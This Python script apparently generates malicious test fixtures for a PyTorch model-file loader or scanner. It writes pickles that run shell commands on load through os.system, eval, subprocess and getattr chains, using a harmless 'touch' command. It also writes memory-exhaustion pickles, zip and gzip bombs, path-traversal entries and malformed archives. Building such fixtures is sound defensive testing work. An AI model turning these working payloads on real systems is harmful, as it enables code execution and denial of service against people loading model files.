#!/usr/bin/env python3
"""Writes the hostile files of `torch/`. Needs Python only; run it in this folder after a change. The table in README.md says what must happen."""
import gzip
import os
import struct
import zlib

FILES = {}
MAGIC = b"\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19."
FAR = 2**62


# Pickles.
def text(value):
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def number(value):
    if 0 <= value < 256:
        return b"K" + bytes([value])
    data = value.to_bytes(9, "little", signed=True)
    return b"\x8a\x09" + data


def name(module, attribute):
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def items(*values):
    return b"(" + b"".join(values) + b"t"


def numbers(*values):
    return items(*map(number, values))


def call(function, *arguments):
    return function + items(*arguments) + b"R"


def storage(key="0", count=4, kind="FloatStorage", location=None):
    return items(text("storage"), name("torch", kind), text(key), location or text("cpu"), number(count)) + b"Q"


def tensor(source=None, offset=0, size=(4,), stride=(1,), extra=b""):
    return call(name("torch._utils", "_rebuild_tensor_v2"), source or storage(), number(offset), numbers(*size), numbers(*stride), b"\x89",
                call(name("collections", "OrderedDict")), extra)


# Archives.
class Entry:
    def __init__(self, name, data, **changed):
        self.name, self.data, self.changed = name if isinstance(name, bytes) else name.encode(), data, changed

    def get(self, key, default):
        return self.changed.get(key, default)


def archive(*entries, before=b"", between=b"", after=b"", comment=b"", count=None, start=None, length=None, tail=None):
    file, directory = before, b""
    for entry in entries:
        header = entry.get("header", len(file))
        crc = entry.get("crc", zlib.crc32(entry.data))
        size = entry.get("size", len(entry.data))
        flags, method = entry.get("flags", 0), entry.get("method", 0)
        stored = entry.get("stored", size)
        if "header" not in entry.changed:
            local_size = entry.get("local_size", len(entry.data))
            local_name = entry.get("local_name", entry.name)
            file += struct.pack("<IHHHHHIIIHH", 0x04034B50, 0, entry.get("local_flags", flags), entry.get("local_method", method), 0, 0,
                                entry.get("local_crc", crc), local_size, local_size, len(local_name), 0) + local_name + entry.data + entry.get("descriptor", b"")
            file += between
        extra = entry.get("extra", b"")
        directory += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0, 0, flags, method, 0, 0, crc, stored, size, len(entry.name), len(extra), 0, 0, 0, 0, header)
        directory += entry.name + extra
    place = len(file)
    n = len(entries) if count is None else count
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(directory) if length is None else length, place if start is None else start, len(comment)) + comment
    return file + directory + (end if tail is None else tail) + after


def entries(pickle, storages=None, version=b"3\n", folder="archive", **changed):
    result = [Entry(f"{folder}/data.pkl", pickle, **changed)]
    for key, data in (storages or {}).items():
        result.append(Entry(f"{folder}/data/{key}", data))
    if version is not None:
        result.append(Entry(f"{folder}/version", version))
    return result


def put(file, data):
    FILES[file] = data


def pickled(file, body, protocol=b"\x80\x02", stop=b"."):
    """A pickle in a good archive, with one storage of four floats."""
    put(file, archive(*entries(protocol + body + stop, {"0": bytes(16)})))


def legacy(file, value, keys=b"](X\x01\x00\x00\x000e", tail=struct.pack("<q", 4) + bytes(16), magic=MAGIC, protocol=b"M\xe9\x03.", system=b"}."):
    put(file, b"\x80\x02" + magic + b"\x80\x02" + protocol + b"\x80\x02" + system + b"\x80\x02" + value + b".\x80\x02" + keys + b"." + tail)


def legacy_storage(view=b"N", count=4, key="0"):
    return items(text("storage"), name("torch", "FloatStorage"), text(key), text("cpu"), number(count), view) + b"Q"


# What runs code when Python loads it.
SHELL = text("touch /tmp/cairn-attack")
pickled("os_system.pt", call(name("os", "system"), SHELL))
pickled("posix_system.pt", call(name("posix", "system"), SHELL))
pickled("eval.pt", call(name("builtins", "eval"), text("__import__('os').system('touch /tmp/cairn-attack')")))
pickled("exec_python2.pt", call(name("__builtin__", "execfile"), text("/tmp/x.py")))
pickled("import.pt", call(name("builtins", "__import__"), text("os")))
pickled("popen.pt", name("subprocess", "Popen") + items(SHELL) + b"}" + text("shell") + b"\x88s\x92", protocol=b"\x80\x04")
GETATTR = name("builtins", "getattr")
pickled("getattr_chain.pt", call(GETATTR, call(GETATTR, name("collections", "OrderedDict"), text("__init__")), text("__globals__")))
pickled("getattr_enum.pt", call(GETATTR, name("torch.distributed.checkpoint.metadata", "_MEM_FORMAT_ENCODING"), text("__class__")))
pickled("getattr_import.pt", call(call(GETATTR, call(name("builtins", "__import__"), text("os")), text("system")), SHELL))
pickled("dotted_name.pt", text("torch.serialization") + text("os.system") + b"\x93" + items(SHELL) + b"R", protocol=b"\x80\x04")
pickled("name_split_elsewhere.pt", text("collections") + text("OrderedDict.fromkeys") + b"\x93" + items(text("a")) + b"R", protocol=b"\x80\x04")
pickled("attrgetter.pt", call(call(name("operator", "attrgetter"), text("system")), name("os", "path")))
pickled("partial.pt", call(name("functools", "partial"), name("os", "system"), SHELL))
pickled("inst.pt", b"(" + SHELL + b"ios\nsystem\n", protocol=b"")
pickled("obj.pt", b"(" + name("os", "system") + SHELL + b"o", protocol=b"\x80\x01")
pickled("newobj.pt", name("ctypes", "CDLL") + items(text("libc.so.6")) + b"\x81")
pickled("setstate.pt", call(name("torch", "device"), text("cpu")) + b"}" + text("__setstate__") + name("os", "system") + b"sb")
pickled("named_only.pt", b"}" + text("activation") + name("os", "system") + b"s")
pickled("factory.pt", call(name("collections", "defaultdict"), name("os", "system")))
pickled("hooks.pt", call(name("torch._utils", "_rebuild_parameter"), tensor(), b"\x88", call(name("collections", "OrderedDict"), b"](" + items(number(0), name("os", "system")) + b"e")))
pickled("reconstructor.pt", call(name("copyreg", "_reconstructor"), name("torch.nn.modules.linear", "Linear"), name("builtins", "object"), b"N"))
pickled("from_type_eval.pt", call(name("torch._tensor", "_rebuild_from_type_v2"), name("builtins", "eval"), name("torch", "Tensor"), items(SHELL), b"}"))
pickled("from_type_nested.pt", call(name("torch._tensor", "_rebuild_from_type_v2"), name("torch._tensor", "_rebuild_from_type_v2"), name("torch", "Tensor"), items(SHELL), b"}"))
pickled("subclass.pt", call(name("torch._tensor", "_rebuild_from_type_v2"), name("torch._utils", "_rebuild_tensor_v2"), name("evil", "Tensor"), items(), b"}"))
pickled("call_a_text.pt", call(text("os.system"), SHELL))
pickled("call_a_tensor.pt", call(tensor(), SHELL))
pickled("call_a_dtype.pt", call(name("torch", "float32"), SHELL))
pickled("joblib.pt", call(name("joblib", "load"), text("/tmp/x")))
pickled("torch_load.pt", call(name("torch.serialization", "load"), text("/tmp/x.pt")))
pickled("hub.pt", call(name("torch.hub", "load"), text("evil/repo"), text("model")))
pickled("storage_class_evil.pt", items(text("storage"), name("os", "system"), text("0"), text("cpu"), number(4)) + b"Q")
pickled("module_source.pt", items(text("module"), name("evil", "Net"), text("net.py"), text("class Net: pass")) + b"Q")
put("bare_pickle.pt", b"cos\nsystem\n(S'touch /tmp/cairn-attack'\ntR.")
put("bare_pickle_4.pt", b"\x80\x04\x95\x17\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R.")
legacy("legacy_system.pt", call(name("posix", "system"), SHELL))
legacy("legacy_keys_system.pt", b"N", keys=call(name("posix", "system"), SHELL))
legacy("legacy_info_system.pt", b"N", system=call(name("posix", "system"), SHELL) + b".")
EVIL = b"\x80\x02" + MAGIC + b"\x80\x02M\xe9\x03.\x80\x02}.\x80\x02" + call(name("os", "system"), SHELL) + b".\x80\x02]."
pickled("nested_file_system.pt", call(name("torch.storage", "_load_from_bytes"), b"B" + struct.pack("<I", len(EVIL)) + EVIL), protocol=b"\x80\x03")
DEEP = b"\x80\x02" + MAGIC + b"\x80\x02M\xe9\x03.\x80\x02}.\x80\x03" + call(name("torch.storage", "_load_from_bytes"), b"C\x01x") + b".\x80\x02]."
pickled("nested_file_in_nested_file.pt", call(name("torch.storage", "_load_from_bytes"), b"B" + struct.pack("<I", len(DEEP)) + DEEP), protocol=b"\x80\x03")

# What exhausts memory, stack or time.
pickled("deep_tuples.pt", b")" + b"\x85" * 60000)
pickled("deep_lists.pt", b"]" * 20000 + b"a" * 19999)
pickled("deep_dicts.pt", b"}" + b"K\x00}" * 6000 + b"s" * 6000)
pickled("deep_reduce.pt", b"".join(name("torch", "device") for _ in range(1)) + b"q\x00" + b"h\x00" * 20000 + b")R" + b"\x85R" * 20000)
pickled("laughs.pt", b"](]q\x00" + b"".join(b"](" + bytes([0x68, i]) * 10 + b"eq" + bytes([i + 1]) for i in range(60)) + b"e")
pickled("laughs_dict.pt", b"](}q\x00" + b"".join(b"}(" + b"".join(b"K" + bytes([k, 0x68, i]) for k in range(16)) + b"uq" + bytes([i + 1]) for i in range(20)) + b"e")
pickled("laughs_text.pt", text("x" * 30000) + b"q\x000](" + b"h\x00" * 20000 + b"e")
pickled("laughs_bytes.pt", b"B" + struct.pack("<I", 30000) + bytes(30000) + b"q\x000](" + b"h\x00" * 20000 + b"e", protocol=b"\x80\x03")
pickled("cycle_list.pt", b"]q\x00h\x00a")
pickled("cycle_dict.pt", b"}q\x00" + text("me") + b"h\x00s")
pickled("cycle_attributes.pt", call(name("collections", "OrderedDict")) + b"q\x00}" + text("me") + b"h\x00sb")
pickled("cycle_through_object.pt", b"]q\x00" + name("torch", "device") + b"h\x00\x85Ra")
pickled("copies_of_a_list.pt", name("builtins", "set") + b"q\x010](" + b"N" * 20000 + b"eq\x000](" + b"h\x01h\x00\x85R" * 5000 + b"e")
pickled("copies_of_a_dict.pt", name("collections", "OrderedDict") + b"q\x010}(" + b"".join(b"M" + struct.pack("<H", k) + b"N" for k in range(5000)) + b"uq\x000](" + b"h\x01h\x00\x85R" * 5000 + b"e")
pickled("copies_of_bytes.pt", name("_codecs", "encode") + b"q\x010" + text("x" * 30000) + b"q\x000" + text("latin1") + b"q\x020](" + b"h\x01h\x00h\x02\x86R" * 3000 + b"e")
pickled("copies_of_a_shape.pt", name("torch._utils", "_rebuild_tensor") + b"q\x010" + storage() + b"q\x000(" + b"K\x01" * 20000 + b"tq\x020](" + b"h\x01(h\x00K\x00h\x02h\x02tR" * 3000 + b"e")
pickled("colliding_keys.pt", b"}(" + b"".join(b"\x8a\x08" + struct.pack("<q", (k << 32) | k) + b"N" for k in range(4000)) + b"ue")
pickled("memo_far.pt", b"Nr\xff\xff\xff\xff0j\xfe\xff\xff\xff")
pickled("memo_unwritten.pt", b"h\x07")
pickled("memo_negative.pt", b"Np-1\n", protocol=b"")
pickled("memo_many.pt", b"N" + b"".join(b"r" + struct.pack("<I", 4000000000 - k) for k in range(8000)) + b"h\x00")
pickled("long_claims_2_gb.pt", b"\x8b\xff\xff\xff\x7f")
pickled("long_negative.pt", b"\x8b\xff\xff\xff\xff")
pickled("long_wide.pt", b"\x8b" + struct.pack("<i", 20000) + b"\x7f" * 20000)
pickled("long_digits.pt", b"L" + b"7" * 50000 + b"L\n", protocol=b"")
pickled("int_digits.pt", b"I" + b"7" * 50000 + b"\n", protocol=b"")
pickled("float_digits.pt", b"F" + b"7" * 50000 + b"\n", protocol=b"")
pickled("text_claims_4_gb.pt", b"X\xff\xff\xff\xff")
pickled("text_claims_2_63.pt", b"\x8d" + b"\xff" * 8, protocol=b"\x80\x04")
pickled("bytes_claim_2_62.pt", b"\x8e" + struct.pack("<q", FAR), protocol=b"\x80\x04")
pickled("bytearray_claims_2_62.pt", b"\x96" + struct.pack("<q", FAR), protocol=b"\x80\x05")
pickled("bytes_negative.pt", b"T\xff\xff\xff\xff", protocol=b"\x80\x01")
pickled("frame_claims_2_62.pt", b"\x95" + struct.pack("<q", FAR) + b"N", protocol=b"\x80\x04")
pickled("many_marks.pt", b"(" * 60000)
pickled("many_lists.pt", b"](" + b"]" * 60000 + b"e", stop=b"")
pickled("many_dicts.pt", b"](" + b"}" * 60000 + b"e", stop=b"")
pickled("many_tensors.pt", name("torch._utils", "_rebuild_tensor") + b"q\x010" + storage() + b"q\x000](" + b"".join(b"h\x01(h\x00K\x00K" + bytes([k % 5]) + b"\x85K" + bytes([k // 5 % 200]) + b"\x85tR" for k in range(3000)) + b"e", stop=b"")
SAME_VIEW = storage() + b"q\x030(h\x03K\x00K\x04\x85K\x01\x85\x89Ntq\x040"
pickled("many_views.pt", SAME_VIEW + name("torch._tensor", "_rebuild_from_type_v2") + b"q\x010(" + name("torch._utils", "_rebuild_tensor_v2") + name("torch", "Tensor") + b"h\x04}tq\x020]("
        + b"h\x01h\x02R" * 20000 + b"e")
SAME_ARRAY = b"C\x08" + bytes(8) + call(name("numpy", "dtype"), text("f8"), b"\x89", b"\x88") + b"K\x01\x85" + text("C") + b"tq\x020"
pickled("many_arrays.pt", name("numpy.core.numeric", "_frombuffer") + b"q\x010(" + SAME_ARRAY + b"](" + b"h\x01h\x02R" * 20000 + b"e", protocol=b"\x80\x04")
ONE = b"\x80\x02" + MAGIC + b"\x80\x02M\xe9\x03.\x80\x02}.\x80\x02" + legacy_storage() + b".\x80\x02](X\x01\x00\x00\x000e." + struct.pack("<q", 4) + bytes(16)
pickled("many_nested_files.pt", name("torch.storage", "_load_from_bytes") + b"q\x000](" + b"".join(b"h\x00B" + struct.pack("<I", len(ONE)) + ONE + b"\x85R" for _ in range(1000)) + b"e",
        protocol=b"\x80\x03", stop=b"")

# Malformed pickles.
pickled("unknown_opcode.pt", b"\xff")
pickled("protocol_6.pt", b"N", protocol=b"\x80\x06")
pickled("extension.pt", b"\x82\x01")
pickled("extension_4.pt", b"\x84\x01\x00\x00\x00")
pickled("out_of_band.pt", b"\x97", protocol=b"\x80\x05")
pickled("read_only_buffer.pt", b"N\x98", protocol=b"\x80\x05")
pickled("no_stop.pt", b"N", stop=b"")
pickled("empty_pickle.pt", b"", protocol=b"", stop=b"")
pickled("empty_stack.pt", b"")
pickled("left_over.pt", b"NN")
pickled("left_over_mark.pt", b"N(N", stop=b"0.")
pickled("after_stop.pt", b"N.N")
pickled("no_mark.pt", b"Nt")
pickled("take_below_mark.pt", b"N(0a")
pickled("pop_too_much.pt", b"N00")
pickled("key_without_value.pt", b"}(NNNu")
pickled("append_to_dict.pt", b"}Na")
pickled("append_to_tuple.pt", b")Na")
pickled("set_in_list.pt", b"]NNs")
pickled("list_as_key.pt", b"}]Ns")
pickled("arguments_not_tuple.pt", name("collections", "OrderedDict") + b"]R")
pickled("build_a_number.pt", b"K\x01}b")
pickled("build_twice.pt", call(name("torch", "device"), text("cpu")) + b"}b}b")
pickled("text_not_utf8.pt", b"X\x02\x00\x00\x00\xc3\x28")
pickled("text_two_halves.pt", text("\ud83d\ude00"))
pickled("bad_number.pt", b"I12x\n", protocol=b"")
pickled("bad_float.pt", b"Fone\n", protocol=b"")
pickled("bad_escape.pt", b"S'\\x4'\n", protocol=b"")
pickled("no_quotes.pt", b"Sabc\n", protocol=b"")
pickled("bad_unicode_escape.pt", b"V\\U00110000\n", protocol=b"")
pickled("line_without_end.pt", b"Vabc", protocol=b"", stop=b"")
pickled("complex_of_texts.pt", call(name("builtins", "complex"), text("1"), text("2")))
pickled("encode_other.pt", call(name("_codecs", "encode"), text("a"), text("zlib")))
pickled("encode_wide.pt", call(name("_codecs", "encode"), text("\u4e16"), text("latin1")))

# Malformed tensors.
pickled("tensor_past_end.pt", tensor(size=(5,)))
pickled("tensor_offset_past_end.pt", tensor(offset=1))
pickled("tensor_offset_negative.pt", tensor(offset=-1))
pickled("tensor_offset_wraps.pt", tensor(offset=FAR, size=(1,)))
pickled("tensor_stride_negative.pt", tensor(stride=(-1,)))
pickled("tensor_stride_wraps.pt", tensor(size=(3, 2), stride=(FAR, FAR)))
pickled("tensor_size_negative.pt", tensor(size=(-4,)))
pickled("tensor_size_overflows.pt", tensor(size=(2**32, 2**32), stride=(0, 0)))
pickled("tensor_empty_overflows.pt", tensor(size=(0, FAR, FAR), stride=(0, 0, 0)))
pickled("tensor_strides_missing.pt", tensor(size=(2, 2), stride=(2,)))
pickled("tensor_many_dimensions.pt", tensor(size=(1,) * 100, stride=(1,) * 100))
pickled("tensor_expanded.pt", tensor(size=(2**40,), stride=(0,)))
pickled("tensor_expanded_often.pt", b"](" + b"".join(tensor(size=(200000 + k,), stride=(0,)) for k in range(120)) + b"e")
pickled("tensor_size_text.pt", call(name("torch._utils", "_rebuild_tensor"), storage(), number(0), text("4"), numbers(1)))
pickled("tensor_no_storage.pt", call(name("torch._utils", "_rebuild_tensor"), b"N", number(0), numbers(4), numbers(1)))
pickled("tensor_conjugated.pt", tensor(extra=b"}" + text("conj") + b"\x88s"))
pickled("tensor_quantized.pt", storage(kind="QInt8Storage"))
pickled("tensor_dtype_unknown.pt", call(name("torch._utils", "_rebuild_tensor_v3"), storage(), number(0), numbers(4), numbers(1), b"\x89", b"N", name("torch", "qint8")))
pickled("tensor_empty_far.pt", tensor(offset=FAR, size=(0,)))
pickled("tensor_of_bits.pt", call(name("torch._utils", "_rebuild_tensor_v3"), storage(), number(0), numbers(4), numbers(1), b"\x89", b"N", name("torch", "uint4")))
pickled("parameter_of_text.pt", call(name("torch._utils", "_rebuild_parameter"), text("x"), b"\x88", b"N"))
pickled("storage_missing.pt", tensor(storage("7")))
pickled("storage_elsewhere.pt", tensor(storage("../version", 2, "ByteStorage"), size=(2,)))
pickled("storage_larger.pt", tensor(storage(count=5)))
pickled("storage_smaller.pt", tensor(storage(count=3), size=(3,)))
pickled("storage_negative.pt", tensor(storage(count=-1)))
pickled("storage_count_wraps.pt", tensor(storage(count=FAR)))
pickled("storage_contradicts.pt", items(tensor(), tensor(storage(count=2, kind="FloatStorage"), size=(2,))))
pickled("storage_nested_id.pt", items(text("storage"), name("torch", "FloatStorage"), storage(), text("cpu"), number(4)) + b"Q")
pickled("persistent_text.pt", b"P0\n", protocol=b"")
pickled("persistent_unknown.pt", items(text("other"), name("torch", "FloatStorage"), text("0"), text("cpu"), number(4)) + b"Q")
DTYPE = call(name("numpy", "dtype"), text("f8"), b"\x89", b"\x88")
ARRAY = call(name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray"), numbers(0), b"C\x01b")


def array(dtype, shape, data):
    return ARRAY + items(number(1), shape, dtype, b"\x89", data) + b"b"


pickled("array_of_objects.pt", array(call(name("numpy", "dtype"), text("O8"), b"\x89", b"\x88"), numbers(1), b"](Ne"), protocol=b"\x80\x03")
pickled("array_short.pt", array(DTYPE, numbers(2), b"C\x08" + bytes(8)), protocol=b"\x80\x03")
pickled("array_size_wraps.pt", array(DTYPE, numbers(2**61 + 1), b"C\x08" + bytes(8)), protocol=b"\x80\x03")
pickled("array_negative.pt", array(DTYPE, numbers(-1), b"C\x08" + bytes(8)), protocol=b"\x80\x03")
pickled("array_not_filled.pt", b"](" + ARRAY + b"e", protocol=b"\x80\x03")
pickled("array_class.pt", call(name("numpy.core.multiarray", "_reconstruct"), name("torch", "Tensor"), numbers(0), b"C\x01b"), protocol=b"\x80\x03")
pickled("array_dtype_long.pt", array(call(name("numpy", "dtype"), text("f99999999999"), b"\x89", b"\x88"), numbers(1), b"C\x08" + bytes(8)), protocol=b"\x80\x03")
pickled("scalar_short.pt", call(name("numpy.core.multiarray", "scalar"), DTYPE, b"C\x01x"), protocol=b"\x80\x03")

# Archives that two readers could see differently, or that claim too much.
GOOD = b"\x80\x02N."
BOMB = zlib.compressobj(9, zlib.DEFLATED, -15)
BOMB = BOMB.compress(bytes(8 << 20)) + BOMB.flush()
put("zip_bomb.pt", archive(*entries(BOMB, size=8 << 20, stored=len(BOMB), method=8, crc=zlib.crc32(bytes(8 << 20)))))
put("zip_storage_bomb.pt", archive(*entries(b"\x80\x02" + tensor(storage(count=2 << 20), size=(2 << 20,)) + b".")[:1],
                                   Entry("archive/data/0", BOMB, size=8 << 20, stored=len(BOMB), method=8), Entry("archive/version", b"3\n")))
put("zip_claims_more.pt", archive(*entries(GOOD, size=FAR % 2**32 or 2**31, local_size=2**31)))
put("zip_overlap.pt", archive(Entry("archive/data.pkl", GOOD), Entry("archive/version", b"3\n"), Entry("archive/data/0", GOOD, header=0, local_name=b"")))
INNER = struct.pack("<IHHHHHIIIHH", 0x04034B50, 0, 0, 0, 0, 0, zlib.crc32(b"3\n"), 2, 2, 15, 0) + b"archive/version" + b"3\n"
put("zip_record_in_record.pt", archive(Entry("archive/data.pkl", GOOD), Entry("archive/data/0", b"x" * 10 + INNER), Entry("archive/version", b"3\n", header=30 + 16 + len(GOOD) + 30 + 14 + 10)))
put("zip_same_bytes_twice.pt", archive(Entry("archive/data.pkl", GOOD), Entry("archive/version", b"3\n"), Entry("archive/data.pkl", GOOD, header=0)))
put("zip_duplicate.pt", archive(*entries(b"\x80\x02K\x01."), *entries(GOOD)))
put("zip_duplicate_case.pt", archive(*entries(GOOD), Entry("archive/DATA.PKL", b"\x80\x02K\x01.")))
put("zip_duplicate_folder.pt", archive(*entries(GOOD), Entry("archive/version/", b"")))
for file, bad in {"zip_parent.pt": "archive/../../etc/passwd", "zip_rooted.pt": "/archive/data.pkl", "zip_backslash.pt": "archive\\data.pkl", "zip_drive.pt": "archive/c:data",
                  "zip_nul.pt": "archive/data\0.pkl", "zip_dot.pt": "archive/./data.pkl", "zip_double_slash.pt": "archive//data.pkl", "zip_no_name.pt": ""}.items():
    put(file, archive(*entries(GOOD), Entry(bad, b"x")))
put("zip_name_not_utf8.pt", archive(*entries(GOOD), Entry(b"archive/\xff", b"x")))
put("zip_name_long.pt", archive(*entries(GOOD), Entry(b"archive/" + b"x" * 60000, b"x")))
put("zip_name_differs.pt", archive(*entries(GOOD, local_name=b"archive/evil.pkl")))
put("zip_size_differs.pt", archive(*entries(GOOD, local_size=3)))
put("zip_size_elsewhere.pt", archive(*entries(GOOD, local_size=2**32 - 1)))
put("zip_second_name.pt", archive(*entries(GOOD, extra=struct.pack("<HHBI", 0x7075, 21, 1, zlib.crc32(b"archive/data.pkl")) + b"archive/evil.pkl")))
put("zip_checksum_differs.pt", archive(*entries(GOOD, local_crc=7)))
put("zip_method_differs.pt", archive(*entries(GOOD, local_method=8)))
put("zip_flags_differ.pt", archive(*entries(GOOD, local_flags=8)))
put("zip_checksum_wrong.pt", archive(*entries(GOOD, crc=7)))
put("zip_version_altered.pt", archive(Entry("archive/data.pkl", GOOD), Entry("archive/version", b"3\n", crc=7)))
put("zip_encrypted.pt", archive(*entries(GOOD, flags=1)))
put("zip_descriptor_missing.pt", archive(*entries(GOOD, flags=8, local_size=0)))
put("zip_descriptor_wrong.pt", archive(*entries(GOOD, flags=8, local_size=0, descriptor=struct.pack("<IIII", 0x08074B50, zlib.crc32(GOOD), 99, 99))))
put("zip_bytes_before.pt", archive(*entries(GOOD), before=b"PK\x03\x04" + b"\0" * 60))
put("zip_bytes_between.pt", archive(*entries(GOOD), between=b"hidden"))
put("zip_bytes_after.pt", archive(*entries(GOOD), after=b"hidden"))
put("zip_comment.pt", archive(*entries(GOOD), comment=b"hidden"))
put("zip_count_small.pt", archive(*entries(GOOD), count=1))
put("zip_count_large.pt", archive(*entries(GOOD), count=60000))
put("zip_directory_far.pt", archive(*entries(GOOD), start=2**31))
put("zip_directory_long.pt", archive(*entries(GOOD), length=2**31))
put("zip_directory_garbage.pt", archive(*entries(GOOD), start=0, length=30 + 16 + 4 + 30 + 15 + 2 + 46 * 2 + 16 + 15))
put("zip_header_far.pt", archive(*entries(GOOD), Entry("archive/data/0", b"", header=2**31)))
put("zip64_missing.pt", archive(*entries(GOOD), count=65535))
put("zip64_fields_missing.pt", archive(*entries(GOOD), Entry("archive/data/0", b"", header=2**32 - 1)))
put("zip64_negative.pt", archive(*entries(GOOD), Entry("archive/data/0", b"", size=2**32 - 1, extra=struct.pack("<HHqq", 1, 16, -1, -1))))
WHOLE = archive(*entries(GOOD))
put("zip_cut.pt", WHOLE[:-30])
put("zip_cut_early.pt", WHOLE[:40])
put("zip_end_only.pt", b"PK\x05\x06" + bytes(18))
put("zip_starts_only.pt", b"PK\x03\x04")
put("zip_no_pickle.pt", archive(Entry("archive/version", b"3\n")))
put("zip_no_version.pt", archive(*entries(GOOD, version=None)))
put("zip_version_99.pt", archive(*entries(GOOD, version=b"99\n")))
put("zip_version_text.pt", archive(*entries(GOOD, version=b"three")))
put("zip_version_long.pt", archive(*entries(GOOD, version=b"3" * 5000)))
put("zip_big_endian.pt", archive(*entries(GOOD), Entry("archive/byteorder", b"big")))
put("zip_middle_endian.pt", archive(*entries(GOOD), Entry("archive/byteorder", b"middle")))
put("zip_two_folders.pt", archive(*entries(GOOD), Entry("other/data.pkl", GOOD)))
put("zip_no_folder.pt", archive(Entry("data.pkl", GOOD), Entry("version", b"3\n")))
put("zip_torchscript.pt", archive(*entries(GOOD), Entry("archive/constants.pkl", GOOD), Entry("archive/code/__torch__.py", b"import os")))

# Other files, and the format of before PyTorch 1.6.
put("empty.pt", b"")
put("text.pt", b"version https://git-lfs.github.com/spec/v1\n")
put("html.pt", b"<!DOCTYPE html><html>404</html>")
put("tar.pt", (b"storages" + bytes(249) + b"ustar\0").ljust(1024, b"\0"))
put("plain_pickle.pt", b"\x80\x02}X\x01\x00\x00\x00aK\x01s.")
legacy("legacy_magic.pt", b"N", magic=b"\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x18.")
legacy("legacy_protocol.pt", b"N", protocol=b"M\xea\x03.")
legacy("legacy_big_endian.pt", b"N", system=b"}" + text("little_endian") + b"\x89s.")
legacy("legacy_keys_dict.pt", legacy_storage(), keys=b"}")
legacy("legacy_keys_missing.pt", legacy_storage(), keys=b"]")
legacy("legacy_keys_unknown.pt", legacy_storage(), keys=b"](" + text("9") + b"e")
legacy("legacy_keys_twice.pt", legacy_storage(), keys=b"](" + text("0") + text("0") + b"e", tail=(struct.pack("<q", 4) + bytes(16)) * 2)
legacy("legacy_count_differs.pt", legacy_storage(), tail=struct.pack("<q", 5) + bytes(20))
legacy("legacy_count_negative.pt", legacy_storage(), tail=struct.pack("<q", -1) + bytes(16))
legacy("legacy_cut_in_storage.pt", legacy_storage(), tail=struct.pack("<q", 4) + bytes(15))
legacy("legacy_cut_in_count.pt", legacy_storage(), tail=bytes(7))
legacy("legacy_bytes_after.pt", legacy_storage(), tail=struct.pack("<q", 4) + bytes(16) + b"hidden")
legacy("legacy_larger_than_file.pt", legacy_storage(count=2**40))
legacy("legacy_view_outside.pt", legacy_storage(view=items(text("v"), number(3), number(2))))
legacy("legacy_view_negative.pt", legacy_storage(view=items(text("v"), number(-1), number(2))))
legacy("legacy_view_malformed.pt", legacy_storage(view=text("v")))

# Packed with gzip.
put("gzip_bomb.pt.gz", gzip.compress(WHOLE + bytes(100 << 20), mtime=0))
put("gzip_cut.pt.gz", gzip.compress(WHOLE, mtime=0)[:-40])
put("gzip_altered.pt.gz", bytes(byte ^ 0x55 if 40 <= i < 60 else byte for i, byte in enumerate(gzip.compress(WHOLE, mtime=0))))
put("gzip_of_gzip.pt.gz", gzip.compress(gzip.compress(WHOLE, mtime=0), mtime=0))

if __name__ == "__main__":
    os.makedirs("torch", exist_ok=True)
    for file in os.listdir("torch"):
        if file not in FILES:
            os.remove(os.path.join("torch", file))
    for file, data in FILES.items():
        with open(os.path.join("torch", file), "wb") as out:
            out.write(data)
